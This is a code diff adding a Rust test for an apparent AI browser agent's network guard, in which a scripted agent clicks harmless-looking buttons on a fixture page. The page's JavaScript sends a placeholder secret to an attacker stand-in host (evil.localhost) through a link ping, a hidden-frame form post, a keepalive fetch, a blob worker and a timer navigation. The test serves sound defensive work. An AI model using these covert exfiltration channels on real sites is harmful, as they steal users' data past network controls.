@@ -434,3 +434,143 @@ fn secrets_spelled_character_by_character_do_not_leave() {
     }
     s.finish("Hostile variants: spelled character by character");
 }
+
+/// Send channels no suite tried before, each behind a free-looking control: a link's `ping`,
+/// a form posted into a frame, a `keepalive` fetch that outlives the page, a dedicated worker
+/// built from a blob, and a navigation set from a timer after the click.
+const CHANNELS: &[(&str, &str, &str)] = &[
+    ("link", "Read more", "ping"),
+    ("button", "Load more", "frame-post"),
+    ("button", "Save for later", "keepalive"),
+    ("button", "Refresh prices", "worker"),
+    ("button", "Continue shortly", "timer-location"),
+];
+
+fn channels_page(port: u16, run: &str) -> String {
+    let evil = |case: &str| format!("http://evil.localhost:{port}/collect?case={case}&run={run}");
+    format!(
+        r#"<!doctype html><html><head><meta charset="utf-8"><title>Channels</title></head><body>
+<h1>Teapots</h1>
+<p><a href="/thanks.html" ping="{ping}">Read more</a></p>
+<form id="fp" method="post" target="sink" action="{frame}"><input type="hidden" name="t" value="SECRET"></form>
+<iframe name="sink" title="sink" style="width: 40px; height: 40px"></iframe>
+<p><button id="frame" type="button">Load more</button>
+<button id="keep" type="button">Save for later</button>
+<button id="worker" type="button">Refresh prices</button>
+<button id="timer" type="button">Continue shortly</button></p>
+<script>
+document.getElementById('frame').onclick = () => document.getElementById('fp').submit();
+document.getElementById('keep').onclick = () => fetch({keep:?}, {{method: 'POST', mode: 'no-cors', keepalive: true, body: 'SECRET'}}).catch(() => {{}});
+document.getElementById('worker').onclick = () => new Worker(URL.createObjectURL(new Blob(
+  ["fetch(" + JSON.stringify({worker:?}) + ", {{method: 'POST', mode: 'no-cors', body: 'SECRET'}}).catch(() => {{}})"])));
+document.getElementById('timer').onclick = () => setTimeout(() => {{ location.href = {timer:?}; }}, 1000);
+</script></body></html>"#,
+        ping = evil("ping"),
+        frame = evil("frame-post"),
+        keep = evil("keepalive"),
+        worker = evil("worker"),
+        timer = evil("timer-location"),
+    )
+}
+
+#[test]
+fn send_channels_the_suites_did_not_try_are_held_to_the_permit() {
+    let Some(ext) = built_extension_with_test_hooks() else { return };
+    let llm = ScriptedLlm::start(|req| {
+        role_reply(req).unwrap_or_else(|| ScriptedReply::tool_call("done", json!({"answer": "x"})))
+    })
+    .expect("scripted LLM");
+    let site =
+        FixtureServer::builder(paths::fixtures_dir().join("netguard")).start().expect("site");
+    let port = site.addr().port();
+    for run in ["open", "guarded"] {
+        site.add_page(format!("/channels-{run}.html"), channels_page(port, run));
+    }
+    let wm = Waymark::launch(&ext, Setup { llm: &llm, install_host: false, site }).expect("launch");
+    let sw = wm.attach_worker().expect("worker");
+    sw.wait_for("typeof globalThis.waymarkPageRequest === 'function'", TASK_TIMEOUT).expect("hook");
+    let shop = format!("http://shop.localhost:{port}");
+    let page = wm.browser.new_page(&format!("{shop}/channels-open.html")).expect("tab");
+    page.wait_for("document.readyState === 'complete'", TASK_TIMEOUT).expect("loaded");
+    let tab = sw
+        .eval(&format!(
+            "chrome.tabs.query({{}}).then((tabs) => tabs.find((t) => t.url.includes('/channels-')).id)"
+        ))
+        .expect("tab id");
+    let request = |body: serde_json::Value| {
+        sw.eval_timeout(&format!("waymarkPageRequest({tab}, {body})"), TASK_TIMEOUT)
+            .unwrap_or_else(|e| panic!("{body}: {e:#}"))
+    };
+    let arrived = |run: &str, case: &str| {
+        let needle = format!("case={case}&run={run}");
+        wm.site.requests().iter().any(|r| {
+            r.path == "/collect" && r.query.as_deref().is_some_and(|q| q.contains(&needle))
+        })
+    };
+    // Every request to the attacker that ends (blocked or sent), as webRequest sees it: proof
+    // that a guarded attempt is over, rather than a pause.
+    sw.eval(
+        "(() => { const e = globalThis.__ended = new Set(); \
+         const f = (d) => { if (d.url.includes('evil.localhost')) e.add(d.url); }; \
+         chrome.webRequest.onErrorOccurred.addListener(f, {urls: ['<all_urls>']}); \
+         chrome.webRequest.onCompleted.addListener(f, {urls: ['<all_urls>']}); return true; })()",
+    )
+    .expect("watch the attacker's requests");
+    let mut rows = Vec::new();
+    for run in ["open", "guarded"] {
+        for (role, name, case) in CHANNELS {
+            page.navigate(&format!("{shop}/channels-{run}.html")).expect("open");
+            page.wait_for("document.readyState === 'complete'", TASK_TIMEOUT).expect("loaded");
+            let prompt = request(json!({"op": "observe", "budget": 100_000}))["prompt"]
+                .as_str()
+                .unwrap_or_default()
+                .to_owned();
+            let r = prompt
+                .lines()
+                .find(|l| l.ends_with(&format!("] {role} {name}")))
+                .and_then(|l| l[1..l.find(']')?].parse::<u64>().ok())
+                .unwrap_or_else(|| panic!("no {role} {name} in {prompt}"));
+            let mut act = json!({"op": "act", "action": {"action": "click", "ref": r}});
+            if run == "guarded" {
+                act["permit"] = json!({"origins": [shop]});
+            }
+            let outcome = request(act)["outcome"].clone();
+            assert_eq!(outcome["ok"], json!(true), "{run} {case}: {outcome}");
+            if run == "open" {
+                wm.site
+                    .wait_for_requests(&format!("the unguarded {case}"), TASK_TIMEOUT, |log| {
+                        log.iter().any(|r| {
+                            r.query
+                                .as_deref()
+                                .is_some_and(|q| q.contains(&format!("case={case}&run=open")))
+                        })
+                    })
+                    .unwrap_or_else(|e| panic!("the attack is not live: {e:#}"));
+            } else {
+                // Every guarded attempt is over: the fetch, ping or navigation ended (blocked
+                // or sent) as the worker's webRequest listener saw it.
+                sw.wait_for(
+                    &format!(
+                        "[...globalThis.__ended].some((u) => u.includes('case={case}&run=guarded'))"
+                    ),
+                    TASK_TIMEOUT,
+                )
+                .unwrap_or_else(|e| panic!("the guarded {case} never ended: {e:#}"));
+                rows.push((*case, arrived("guarded", case)));
+            }
+        }
+    }
+    eprintln!("\n| channel | guarded result |\n|---|---|");
+    for (case, got) in &rows {
+        eprintln!(
+            "| {case} | {} |",
+            if *got {
+                "REACHED evil.localhost"
+            } else {
+                "blocked by the network guard (unguarded it arrived)"
+            }
+        );
+    }
+    let through: Vec<&str> = rows.iter().filter(|(_, got)| *got).map(|(c, _)| *c).collect();
+    assert!(through.is_empty(), "the guard let through: {through:?}");
+}
